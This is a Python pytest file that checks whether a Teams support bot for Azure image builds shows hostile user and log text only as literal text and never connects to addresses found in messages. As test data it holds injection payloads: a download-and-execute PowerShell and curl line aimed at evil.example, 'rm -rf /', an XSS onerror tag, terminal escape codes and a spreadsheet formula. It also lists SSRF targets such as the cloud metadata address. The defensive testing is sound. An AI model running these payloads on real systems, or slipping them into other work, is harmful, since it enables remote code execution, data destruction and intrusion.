"""Hostile texts from any source, over signed HTTP: none of their markup, commands, or addresses takes effect."""

from __future__ import annotations

import json
import socket
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import pytest_asyncio

from dialogs.model.azure import LogTail, RunOutput
from tests.bot.hostile import HERS, Whole, whole
from tests.bot.scripted import KNOWLEDGE
from tests.bot.teams.test_hostile_invokes import invoked
from tests.dialogs.azure.fake_azure import GOLDEN, STATUS
from tests.dialogs.azure.statuses import with_values
from tests.dialogs.fixtures import SUBSCRIPTION
from tests.dialogs.support.ticket.test_flow import CONTACT
from tests.shipped_knowledge import ENTRIES

pytestmark = pytest.mark.property

MARK = "evil.example"
HARM = [
    f"[press here](https://{MARK}/a) ![x](https://{MARK}/b.png) <https://{MARK}/c>",
    f"<a href='https://{MARK}'>x</a><at>everyone</at><img src=https://{MARK}/x onerror=alert(1)>",
    f"{{{{DATE(2020-01-01T00:00:00Z)}}}} ${{env:PATH}} {MARK} \\u003cscript\\u003e",
    f"'; Invoke-WebRequest https://{MARK}/x.ps1 | iex; $(curl https://{MARK}) `curl {MARK}` && rm -rf / #",
    f"\u202e{MARK}\u2066 \x1b]8;;https://{MARK}\x07x\x1b]8;;\x07\x00\x9b2J",
    f"=HYPERLINK(\"https://{MARK}\") @{{https://{MARK}}} ms-settings: javascript:alert('{MARK}')",
]
OWN = {"portal.azure.com", "portal.azure.us", "aka.ms", "learn.microsoft.com", "support.microsoft.com"} | {
    urlsplit(reference.url).hostname for entry in ENTRIES.values() for reference in entry.references
}
LITERAL = {"TextRun", "CodeBlock", "Input.Text", "Input.ChoiceSet", "AdaptiveCard", "Action.Submit"}
"""The elements that can contain untrusted text: shown as it is, typed back, the plain text of a card, a button's label."""
COMMANDS = ("az ", "Get-Az", "Remove-Az", "New-Az", "Invoke-Az", "$ctx")


@pytest_asyncio.fixture
async def bot(tmp_path: Path, request: pytest.FixtureRequest) -> AsyncIterator[Whole]:
    harm = getattr(request, "param", "")
    status = with_values(
        STATUS, region=harm, message=harm, provisioning_message=harm, vm_size=harm, source=harm, on_error=harm,
        staging_group=harm, run_sub_state=harm, customizers=((harm, harm),),
        outputs=(RunOutput(harm, harm, harm),),
    )  # fmt: skip
    async with whole(tmp_path, KNOWLEDGE, status) as bot:
        bot.azure.tails[GOLDEN] = LogTail("customization.log", log_of(harm), 100, 100)
        yield bot


def log_of(harm: str) -> str:
    return (
        "==> azure-arm: Provisioning with Powershell...\n"
        f"    azure-arm: template: {harm}\n    azure-arm: {harm}\n"
        f"==> azure-arm: Build log location: https://{MARK}/packerlogs/aaaaaaaa/customization.log\n"
        "==> azure-arm: Script exited with non-zero exit status: 1. Allowed exit codes are: [0]"
    )


def elements(value: Any) -> Iterator[dict[str, Any]]:
    """Every typed element of a card, the innermost included."""
    if isinstance(value, dict):
        if isinstance(value.get("type"), str):
            yield value
        for item in value.values():
            yield from elements(item)
    elif isinstance(value, list):
        for item in value:
            yield from elements(item)


def check(shown: Any) -> int:
    """How many elements hold foreign text; none may be one that reads markup, opens it, or is a command of ours."""
    holding = 0
    for element in elements(shown):
        own = {key: value for key, value in element.items() if isinstance(value, str)}
        if element["type"] == "Action.OpenUrl":
            assert urlsplit(element["url"]).hostname in OWN, element["url"]
            assert MARK not in element["url"]
        assert element["type"] not in ("TextBlock", "FactSet", "Image", "Media", "Action.Execute")
        if any(MARK in value for value in own.values()):
            assert element["type"] in LITERAL, element
            assert not any(str(value).lstrip().startswith(COMMANDS) for key, value in own.items() if key == "text")
            holding += 1
    written = json.dumps(shown, ensure_ascii=False)
    assert not any(strange in written for strange in "\u202e\u2066\x1b\x9b\x00")
    return holding


@pytest.mark.parametrize("bot", HARM, indirect=True, ids=range(len(HARM)))
async def test_untrusted_text_is_literal_whatever_its_source(bot: Whole, request: pytest.FixtureRequest) -> None:
    harm = request.node.callspec.params["bot"]
    her = {**HERS, "from": {**HERS["from"], "name": harm}}
    joined = {"membersAdded": [{"id": "28:bot"}], "type": "conversationUpdate"}
    await bot.post(her, **joined)
    await bot.say(her, log_of(harm))
    await bot.say(her, harm)
    content = {"downloadUrl": f"https://{MARK}/x", "uniqueId": "x", "fileType": "log"}
    file = {"contentType": "application/vnd.microsoft.teams.file.download.info", "name": harm, "content": content}
    await bot.post(her, text="", attachments=[file])
    await bot.settled()
    for do in ("others", "done", "done", "guided", "look-other"):
        await bot.press(her, do)
    await bot.press(her, "look", {"sub": SUBSCRIPTION, "rg": "rg-images", "name": "win11-golden"})
    for do in ("look-yes", "failing", "whole-log", "draft"):
        await bot.press(her, do)
    await bot.press(her, "post", product="linux", title=harm, changed=harm, impact=harm, template_id=harm)
    await bot.press(her, "post", product="linux", title=harm, changed=harm, impact=harm, template_id="")
    for do in ("az-case", "file-case", "ticket"):
        await bot.press(her, do)
    await bot.press(her, "ticket-preview", **{key: harm for key in CONTACT if key not in ("by", "diagnostics")})
    await bot.press(her, "ticket-preview", **{**CONTACT, "first": "Ada", "last": harm[:60]})
    await bot.settled()
    sent = [one for one in bot.bot.teams.sent if one["type"] == "message"]
    assert len(sent) > 20
    holding = 0
    for one in sent:
        assert one.get("text") is None or one["textFormat"] == "plain"
        holding += check([attachment["content"] for attachment in one.get("attachments", [])])
    assert holding > 20
    for name, value in (
        ("composeExtension/query", {"commandId": "search", "parameters": [{"name": "query", "value": harm}]}),
        ("composeExtension/fetchTask", {"messagePayload": {"body": {"contentType": "text", "content": log_of(harm)}}}),
    ):
        status, said = await invoked(bot, her, name, value)
        assert status == 200
        check(json.loads(said))


class Listening:
    """Notes every address that the process connects to, and every name that it looks up."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.asked: list[Any] = []
        connect, look_up = socket.socket.connect, socket.getaddrinfo

        def connected(connection: socket.socket, address: Any) -> None:
            self.asked.append(address)
            connect(connection, address)

        def looked_up(host: Any, *rest: Any, **more: Any) -> Any:
            self.asked.append((host, 0))
            return look_up(host, *rest, **more)

        monkeypatch.setattr(socket.socket, "connect", connected)
        monkeypatch.setattr(socket, "getaddrinfo", looked_up)


ADDRESSES = [
    "https://{}/x", "http://{}/", "\\\\{}\\share", "ftp://{}/a", "//{}/x", "https://stg0123456789.{}/packerlogs/aaaaaaaa/customization.log",
    "https://portal.azure.com@{}/", "https://{}/subscriptions/8e1f6a02-5c7d-4b39-9d14-f0a2c6e83b75/resourceGroups/rg/providers/Microsoft.VirtualMachineImages/imageTemplates/win11",
    "https://{}/api/messages?nextLink=https://{}", "Build log location: https://{}/packerlogs/aaaaaaaa/customization.log",
]  # fmt: skip
HOSTS = ["evil.example", "169.254.169.254", "127.0.0.1:9", "[::1]:9", "localhost:9", "10.0.0.1"]


async def test_no_request_goes_to_an_address_found_in_a_text(bot: Whole, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every connection of the process is noted: all of them lead to Teams, to the keys, or to the bot itself."""
    listening = Listening(monkeypatch)
    for host in HOSTS:
        texts = [address.replace("{}", host) for address in ADDRESSES]
        for text in [*texts, "\n".join(texts), log_of("\n".join(texts))]:
            for said in (text, f"look at {text}", f"watch {text}"):
                await bot.say(HERS, said)
            for do in ("look", "look-yes", "look-retry", "whole-log", "draft", "done", "az-case"):
                await bot.press(HERS, do)
            value = {"messagePayload": {"body": {"contentType": "html", "content": f"<img src='{text}'>{text}"}}}
            await invoked(bot, HERS, "composeExtension/fetchTask", value)
            query = {"commandId": "search", "parameters": [{"name": "query", "value": text[:500]}]}
            await invoked(bot, HERS, "composeExtension/query", query)
        file = {"contentType": "application/vnd.microsoft.teams.file.download.info", "name": "customization.log",
                "content": {"downloadUrl": f"https://{host}/x", "uniqueId": "x", "fileType": "log"}}  # fmt: skip
        await bot.post(
            HERS, text="", attachments=[file, {"contentType": "image/png", "contentUrl": f"https://{host}/"}]
        )
    await bot.settled()
    ours = {urlsplit(url).port for url in (bot.bot.url, bot.bot.identity.url, bot.bot.identity.service_url)}
    others = [one for one in listening.asked if one[0] not in ("127.0.0.1", "localhost") or one[1] not in {*ours, 0}]
    assert listening.asked
    assert others == []
